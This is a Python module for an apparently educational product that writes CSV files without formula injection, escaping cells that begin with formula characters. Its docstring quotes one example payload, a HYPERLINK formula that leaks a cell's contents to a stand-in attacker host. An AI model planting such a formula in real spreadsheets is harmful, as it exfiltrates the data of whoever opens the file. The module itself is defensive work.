"""CSV files safe to open in a spreadsheet: no cell the product writes can run as a formula.

A student's folder name or a roster cell such as ``=HYPERLINK("http://evil.example/?leak="&B3)``
would run in Excel, LibreOffice or Google Sheets when the instructor opens the CSV. As OWASP's
"CSV Injection" page recommends, a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is written with a leading ``'`` (which spreadsheets show as text, not as part
of the value), and every cell is quoted by the ``csv`` module where it must be. A plain number
such as ``-2.5`` is data, not a formula, and stays as it is so that grade columns still import.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> str:
    """``value`` as a cell no spreadsheet evaluates."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """The CSV of ``rows`` (``\\n`` line ends), every cell through :func:`safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    # with "\n" line ends the csv module leaves a lone "\r" unquoted, which splits the row
    quoted = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = [safe_cell(cell) for cell in row]
        (quoted if any("\r" in cell for cell in cells) else writer).writerow(cells)
    return buffer.getvalue()
